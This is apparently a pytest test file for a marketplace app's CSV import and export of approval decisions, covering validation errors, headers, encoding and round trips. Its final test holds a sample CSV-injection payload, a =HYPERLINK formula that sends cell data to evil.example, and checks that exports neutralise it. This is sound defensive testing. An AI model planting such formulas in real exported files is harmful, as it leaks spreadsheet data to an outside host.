"""Decision history as CSV (marketplace.decisions_io): every check names its line, and a bad file stores nothing."""

import io
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlmodel import Session, func, select

from marketplace.db import make_engine
from marketplace.decisions_io import (
    COLUMNS,
    MAX_REPORTED,
    DecisionImportError,
    check_header,
    export_decisions,
    import_decisions,
)
from marketplace.models import Decision
from marketplace.services import approvals
from marketplace.services.approvals import Explanation
from tests.conftest import World, build_world

HEADER = ",".join(COLUMNS)
GOOD = "2025-04-01T10:00:00+00:00,gov-a,A-001,11111111,voedselbank-aastad,vb-1,employee_hour,10,approved,"


def csv_text(*rows: str) -> str:
    return HEADER + "\n" + "".join(r + "\n" for r in rows)


def n_decisions(session: Session) -> int:
    return int(session.exec(select(func.count()).select_from(Decision)).one())


def import_errors(session: Session, text: str | bytes) -> dict[int, str]:
    """Import a file that must fail; returns {line: problems} and checks nothing was stored."""
    before = n_decisions(session)
    with pytest.raises(DecisionImportError) as info:
        import_decisions(session, text)
    assert n_decisions(session) == before
    return {e.line: "; ".join(e.problems) for e in info.value.errors}


def test_a_good_file_is_stored_as_imported_decisions(world: World) -> None:
    text = csv_text(
        GOOD,
        "2025-04-02T09:30:00+02:00,gov-a,A-001,11111111,fietsfirma-aastad,,purchase_social_firm,250000,rejected,"
        '"Te duur, en ""geen"" offerte"',
        '2025-04-03,gov-b,B-001,22222222,taalcafe-beedorp,tc-1,employee_hour,5,approved,"Goed\n  plan"',
    )
    result = import_decisions(world.session, text)
    assert len(result.decisions) == 3 and result.counts == {"approved": 2, "rejected": 1}
    rows = world.session.exec(select(Decision).order_by(Decision.decided_at)).all()  # type: ignore[arg-type]
    assert [(d.source, d.match_id, d.features, d.officer_id) for d in rows] == [
        ("import", None, None, None)
    ] * 3
    assert [d.route for d in rows] == ["social_domain", "labour_participation", "social_domain"]
    assert rows[1].decided_at == datetime(2025, 4, 2, 7, 30, tzinfo=UTC)
    assert rows[1].reason == 'Te duur, en "geen" offerte'
    assert rows[2].decided_at == datetime(2025, 4, 3, tzinfo=UTC)  # no offset: UTC
    assert (rows[2].reason, rows[2].need, rows[2].quantity) == ("Goed\n  plan", "tc-1", 5)


def test_a_utf8_bom_and_blank_lines_are_tolerated(world: World) -> None:
    data = ("\ufeff" + csv_text("", GOOD, "")).encode("utf-8")
    assert len(import_decisions(world.session, data).decisions) == 1


def test_bad_rows_are_all_reported_by_line_and_nothing_is_stored(world: World) -> None:
    text = csv_text(
        GOOD,  # 2: fine
        GOOD.replace("voedselbank-aastad", "bestaat-niet"),  # 3
        GOOD.replace("2025-04-01T10:00:00+00:00", "01-04-2025"),  # 4
        GOOD.replace("approved", "maybe"),  # 5
        GOOD.replace("vb-1", "tc-1"),  # 6
        GOOD.replace("employee_hour", "no_such_block"),  # 7
        GOOD.replace(",10,", ",0,"),  # 8
        GOOD.replace(",10,", ",1.5,"),  # 9
        GOOD.replace("gov-a", "gov-x"),  # 10
        GOOD.replace("A-001", "B-001").replace("11111111", "22222222"),  # 11
        GOOD.replace("11111111", "22222222"),  # 12
        GOOD.replace("A-001", "Z-999"),  # 13
        GOOD + "x" * 2001,  # 14
        GOOD.replace("vb-1", "vb-99"),  # 15
        GOOD,  # 16: duplicate
        GOOD.replace("10:00:00", "11:00:00").replace(",approved,", ',rejected,"two\nlines"'),  # 17-18: fine
        GOOD.replace("2025-04-01", "2999-01-01"),  # 19
        "2025-04-01,gov-a,A-001",  # 20
        GOOD.replace("voedselbank-aastad,vb-1", ",vb-1"),  # 21
    )
    errors = import_errors(world.session, text)
    assert sorted(errors) == [3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 19, 20, 21]
    assert "unknown initiative 'bestaat-niet'" in errors[3]
    assert "not an ISO 8601" in errors[4]
    assert "outcome 'maybe'" in errors[5]
    assert "need tc-1 is not a need of voedselbank-aastad" in errors[6]
    assert "'no_such_block' is not in the valuation table of contract A-001" in errors[7]
    assert "quantity '0'" in errors[8] and "quantity '1.5'" in errors[9]
    assert "unknown government 'gov-x'" in errors[10]
    assert "contract B-001 is not a contract of gov-a" in errors[11]
    assert "company_kvk '22222222' is not the company of contract A-001" in errors[12]
    assert "unknown contract 'Z-999'" in errors[13]
    assert "reason is too long" in errors[14]
    assert "unknown need 'vb-99'" in errors[15]
    assert "duplicate of line 2" in errors[16]
    assert "in the future" in errors[19]
    assert "expected 10 fields, found 3" in errors[20]
    assert "without its initiative" in errors[21]


def test_one_row_may_have_several_problems(world: World) -> None:
    errors = import_errors(world.session, csv_text("yesterday,gov-a,A-001,11111111,nope,,nope,-3,ok,"))
    assert errors[2].count(";") >= 4


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (HEADER.replace(",reason", ""), "missing columns: reason"),
        (HEADER + ",officer", "unknown columns: 'officer'"),
        (HEADER.replace("decided_at,government", "government,decided_at"), "columns in the wrong order"),
        (HEADER.replace("quantity", "qty"), "missing columns: quantity; unknown columns: 'qty'"),
        (HEADER + ",reason", "repeated columns: reason"),
    ],
)
def test_wrong_columns_are_named(world: World, header: str, expected: str) -> None:
    errors = import_errors(world.session, header + "\n" + GOOD + "\n")
    assert list(errors) == [1]
    assert expected in errors[1]


def test_check_header_accepts_the_exact_header() -> None:
    assert check_header(list(COLUMNS)) == []
    assert check_header(["\ufeffdecided_at", *COLUMNS[1:]]) == []


def test_an_empty_file_and_a_file_that_is_not_utf8(world: World) -> None:
    assert "empty" in import_errors(world.session, b"")[1]
    errors = import_errors(
        world.session, csv_text(GOOD, GOOD.replace("approved,", "approved,caf\xe9")).encode("latin-1")
    )
    assert "not UTF-8" in errors[3]


def test_the_report_is_capped_but_counts_every_bad_row(world: World) -> None:
    text = csv_text(*[GOOD.replace("voedselbank-aastad", f"x-{i}") for i in range(60)])
    with pytest.raises(DecisionImportError) as info:
        import_decisions(world.session, text)
    assert len(info.value.errors) == MAX_REPORTED and info.value.n_bad == 60
    assert info.value.lines()[-1] == "... and 10 more bad rows"
    assert "60 of 60 rows are bad" in info.value.summary()


def test_importing_the_same_file_twice_is_refused(world: World) -> None:
    import_decisions(world.session, csv_text(GOOD))
    assert "already stored" in import_errors(world.session, csv_text(GOOD))[2]


def test_dry_run_checks_but_stores_nothing(world: World) -> None:
    result = import_decisions(world.session, csv_text(GOOD), dry_run=True)
    assert len(result.decisions) == 1 and n_decisions(world.session) == 0


# --- export and round trip -----------------------------------------------------------------------------


@pytest.fixture
def fresh_session(sqlite_template: Path, tmp_path: Path) -> Iterator[Session]:
    """A second, freshly migrated database with the same world: where an export is imported."""
    target = tmp_path / "fresh.sqlite3"
    shutil.copyfile(sqlite_template, target)
    engine = make_engine(f"sqlite:///{target}")
    with Session(engine, expire_on_commit=False) as session:
        yield session
    engine.dispose()


def export_text(session: Session) -> str:
    out = io.StringIO()
    export_decisions(session, out)
    return out.getvalue()


def test_export_then_import_round_trips(world: World, fresh_session: Session) -> None:
    s, officer = world.session, world.users["officer_a"]
    m1 = world.pledge()
    world.act(
        approvals.approve_match,
        actor=officer,
        match_id=m1.id or 0,
        explain=lambda _m: Explanation(features={"priority_theme": 1.0}, score=0.9),
    )
    m2 = world.pledge(need_id=world.need_money.id, block_code="donation_initiative", quantity=20_000)
    world.act(approvals.reject_match, actor=officer, match_id=m2.id or 0, reason='Liever "uren", niet, geld')
    m3 = world.pledge(quantity=5)
    world.act(
        approvals.request_changes, actor=officer, match_id=m3.id or 0, reason="Minder uren"
    )  # not exported
    import_decisions(s, csv_text(GOOD.replace("2025-04-01T10:00:00", "2025-01-01T08:00:00.250000")))

    exported = export_text(s)
    lines = exported.splitlines()
    assert lines[0] == HEADER and len(lines) == 4  # the imported (oldest) first, then the app's two
    assert lines[1].startswith(
        "2025-01-01T08:00:00.250000+00:00,gov-a,A-001,11111111,voedselbank-aastad,vb-1,"
    )
    assert ",vb-2,donation_initiative,20000,rejected," in lines[3]

    build_world(fresh_session)
    result = import_decisions(fresh_session, exported)
    assert len(result.decisions) == 3
    assert export_text(fresh_session) == exported
    rows = fresh_session.exec(select(Decision)).all()
    assert {d.source for d in rows} == {"import"}

    def key(d: Decision) -> tuple[object, ...]:
        return (
            d.decided_at,
            d.government,
            d.contract_reference,
            d.company_kvk,
            d.initiative,
            d.need,
            d.building_block,
            d.route,
            d.quantity,
            d.outcome,
            d.reason,
        )

    originals = s.exec(select(Decision).where(Decision.outcome != "changes_requested")).all()
    assert sorted(map(key, rows)) == sorted(map(key, originals))  # type: ignore[type-var]


def test_formula_reasons_are_neutralised_and_the_round_trip_stays_exact(
    world: World, fresh_session: Session
) -> None:
    """`srx decisions export` writes =HYPERLINK(...) as '=HYPERLINK(...); the import takes the apostrophe off."""
    s, officer = world.session, world.users["officer_a"]
    hostile = [
        '=HYPERLINK("http://evil.example/?d="&A2,"open")',
        "+31 20 123 4567",
        "-- geen bewijs",
        "@SUM(1)",
        "'=al met apostrof",
        "'gewoon citaat",
    ]
    for reason in hostile:
        m = world.pledge(quantity=1)
        world.act(approvals.reject_match, actor=officer, match_id=m.id or 0, reason=reason)
    exported = export_text(s)
    cells = [line.rsplit(",", 1)[-1] for line in exported.splitlines()[1:]]
    assert all(c.strip('"')[:1] not in "=+-@" for c in cells), cells
    assert '\'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")' in exported
    build_world(fresh_session)
    import_decisions(fresh_session, exported)
    assert sorted(d.reason for d in fresh_session.exec(select(Decision)).all()) == sorted(hostile)
    assert export_text(fresh_session) == exported
